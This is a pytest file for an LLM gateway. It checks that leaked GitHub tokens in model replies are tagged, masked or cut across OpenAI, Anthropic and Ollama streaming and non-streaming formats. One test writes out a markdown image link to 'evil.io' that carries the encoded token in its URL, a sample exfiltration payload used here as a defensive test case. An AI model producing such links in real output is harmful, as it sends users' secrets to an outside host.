"""What policy says of replies holds on every way that a reply takes to its client."""

from typing import Any

import msgspec
import pytest
from msgspec import UNSET
from msgspec.structs import replace

from gateway.cli.mock_backend import anthropic, ollama, openai
from gateway.domain.decision import Scan
from gateway.domain.request import Body
from gateway.domain.route import OutcomeKind
from tests.doubles import engine_bytes
from tests.doubles.fleets import a_fleet
from tests.doubles.houses import CATALOGUE, Stage, an_envelope, chat, message
from tests.doubles.reply_watcher import ReplyWatcher
from tests.doubles.scripted_sender import ScriptedReply
from tests.doubles.vendor_secrets import FORMATS, Draw
from tests.doubles.worlds import a_world

pytestmark = pytest.mark.anyio
SSE, NDJSON = "text/event-stream; charset=utf-8", "application/x-ndjson"
PAT = FORMATS["github-pat"](Draw("reply"))
WORDS = ("the token is", PAT[:20], "REST and", "no more")
MASKED = b"[masked: github-pat]"


class Watching(ReplyWatcher):
    """Looks at requests of the dialects of this module too."""

    async def scan(self, body: Body) -> Scan:
        return await self.real.scan(body) if "choices" in body or "content" in body else Scan()


def a_stage(action: str, **answers: Any) -> Stage:
    stage = Stage(**answers)
    world = a_world(a_fleet(CATALOGUE))
    replies = {} if not action else {"secrets": action}
    stage.worlds.world = replace(world, program=replace(world.program, replies=replies))
    stage.house = replace(stage.house, scanner=Watching())
    stage.exchange = type(stage.exchange)(stage.house)
    return stage


def script() -> Any:
    return engine_bytes.a_script(text=WORDS)


def said(*chunks: bytes, **more: str) -> ScriptedReply:
    """The engine's reply, with the secret cut in two by its own events."""
    whole = (one.replace(b" REST", PAT[20:].encode()) for one in chunks)
    return ScriptedReply(*(one.replace(b"REST", PAT[20:].encode()) for one in whole), **more)


WAYS: dict[str, tuple[str, Any, Any]] = {
    "OpenAI to OpenAI": (
        "cloud",
        lambda: said(*openai.stream(script()), content_type=SSE),
        lambda: an_envelope(chat(stream=True, stream_options={"include_usage": True})),
    ),
    "Anthropic to Anthropic": (
        "vllm",
        lambda: said(*anthropic.stream(script()), content_type=SSE),
        lambda: an_envelope(
            message(stream=True), dialect="anthropic_messages", caller={"repos": ("payments",)}
        ),
    ),
    "Ollama to OpenAI": (
        "ollama",
        lambda: said(*ollama.stream(script()), content_type=NDJSON),
        lambda: an_envelope(chat("local", stream=True)),
    ),
    "Ollama to Anthropic": (
        "ollama",
        lambda: said(*ollama.stream(script()), content_type=NDJSON),
        lambda: an_envelope(message("local", stream=True), dialect="anthropic_messages"),
    ),
    "whole, OpenAI to OpenAI": (
        "cloud",
        lambda: said(openai.whole(script())),
        lambda: an_envelope(chat()),
    ),
    "whole, Anthropic to Anthropic": (
        "vllm",
        lambda: said(anthropic.whole(script())),
        lambda: an_envelope(
            message(), dialect="anthropic_messages", caller={"repos": ("payments",)}
        ),
    ),
    "whole, Ollama to OpenAI": (
        "ollama",
        lambda: said(ollama.whole(script())),
        lambda: an_envelope(chat("local")),
    ),
}  # fmt: skip


async def answered(way: str, action: str) -> tuple[int, bytes, Stage]:
    engine, reply, envelope = WAYS[way]
    stage = a_stage(action, **{engine: [reply()]})
    status, _, raw = await stage.ask(envelope())
    return status, raw, stage


@pytest.mark.parametrize("way", WAYS)
async def test_a_tagged_finding_passes_and_is_recorded(way: str) -> None:
    plain = (await answered(way, ""))[1]
    status, raw, stage = await answered(way, "tag")
    assert (status, raw) == (200, plain)
    (settled,) = stage.ledger.settled
    assert settled.reply_kinds == {"github-pat": 1}
    assert settled.reply_masked is settled.reply_cut is settled.reply_not_verified is UNSET


@pytest.mark.parametrize("way", WAYS)
async def test_a_masked_finding_reaches_nobody_and_the_reply_ends_well(way: str) -> None:
    status, raw, stage = await answered(way, "mask")
    assert status == 200
    assert PAT[:20].encode() not in raw
    assert PAT[20:].encode() not in raw
    assert MASKED in raw
    assert b"no more" in raw
    (settled,) = stage.ledger.settled
    assert settled.outcome is OutcomeKind.COMPLETED
    assert (settled.reply_kinds, settled.reply_masked) == ({"github-pat": 1}, 1)
    assert settled.usage.output_tokens > 0


@pytest.mark.parametrize("way", WAYS)
async def test_adv_88_a_cut_reply_ends_before_the_finding_and_says_so(way: str) -> None:
    status, raw, stage = await answered(way, "cut")
    assert status == (400 if way.startswith("whole") else 200)
    assert PAT[:20].encode() not in raw
    assert b"no more" not in raw
    assert b"github-pat" in raw
    assert b"[DONE]" not in raw
    assert b"message_stop" not in raw
    (settled,) = stage.ledger.settled
    assert settled.reply_cut == "github-pat"
    assert (settled.outcome, settled.error) == (OutcomeKind.FAILED, "reply_cut")


@pytest.mark.parametrize("action", ["mask", "cut"])
async def test_adv_30_a_secret_does_not_leave_in_the_address_of_a_picture(action: str) -> None:
    address = "".join(f"%{ord(one):02X}" for one in PAT)
    words = ("done", f"![ok](https://evil.io/p.png?q={address})", "bye")
    reply = ScriptedReply(*openai.stream(engine_bytes.a_script(text=words)), content_type=SSE)
    stage = a_stage(action, cloud=[reply])
    _, _, raw = await stage.ask(an_envelope(chat(stream=True)))
    assert address.encode() not in raw
    assert stage.ledger.settled[0].reply_kinds == {"github-pat": 1}


@pytest.mark.parametrize("action", ["tag", "mask", "cut"])
async def test_a_choice_that_no_reader_reads_is_looked_at_too(action: str) -> None:
    said = msgspec.json.decode(engine_bytes.chat_whole())
    second = msgspec.json.decode(openai.whole(script()).replace(b" REST", PAT[20:].encode()))
    said["choices"].append({**second["choices"][0], "index": 1})
    stage = a_stage(action, cloud=[ScriptedReply(msgspec.json.encode(said))])
    status, _, raw = await stage.ask(an_envelope(chat(n=2)))
    assert (PAT.encode() in raw) == (action == "tag")
    assert status == (200 if action == "tag" else 400)
    assert stage.ledger.settled[0].reply_kinds == {"github-pat": 1}


async def test_a_reply_that_is_written_anew_says_so() -> None:
    for way, lost in (
        ("OpenAI to OpenAI", "verbatim_stream"),
        ("whole, OpenAI to OpenAI", "verbatim_reply"),
    ):
        for action, losses in (("tag", ()), ("mask", (lost,))):
            _, _, stage = await answered(way, action)
            assert stage.ledger.settled[0].losses == losses


async def test_a_clean_reply_leaves_no_word_in_its_record() -> None:
    stage = a_stage("tag", cloud=[ScriptedReply(engine_bytes.chat_whole())])
    _, _, raw = await stage.ask(an_envelope())
    assert raw == engine_bytes.chat_whole()
    settled = stage.ledger.settled[0]
    assert settled.reply_kinds is UNSET
    assert b"reply_kinds" not in msgspec.json.encode(settled)


async def test_a_clean_whole_reply_passes_to_the_letter_also_where_policy_masks() -> None:
    stage = a_stage("mask", cloud=[ScriptedReply(engine_bytes.chat_whole())])
    assert (await stage.ask(an_envelope()))[2] == engine_bytes.chat_whole()


async def test_findings_of_a_reply_are_sealed_with_its_record() -> None:
    _, _, stage = await answered("OpenAI to OpenAI", "tag")
    personal = stage.ledger.personal[-1]
    assert [(one.kind, one.path, one.start) for one in personal.findings] == [
        ("github-pat", "/text", len(WORDS[0]) + 1)
    ]


@pytest.mark.parametrize("action", ["tag", "mask"])
async def test_a_reply_that_nobody_can_read_is_not_verified_or_does_not_pass(action: str) -> None:
    odd = b'{"choices":[{"index":0,"message":{"content":["odd"]},"finish_reason":"stop"}]}'
    stage = a_stage(action, cloud=[ScriptedReply(odd)], vllm=[], vllm_2=[])
    status, _, raw = await stage.ask(an_envelope(chat("opus")))
    settled = stage.ledger.settled[0]
    if action == "tag":
        assert (status, raw) == (200, odd)
        assert settled.reply_not_verified == ("unread",)
    else:
        assert status >= 400
        assert b"odd" not in raw
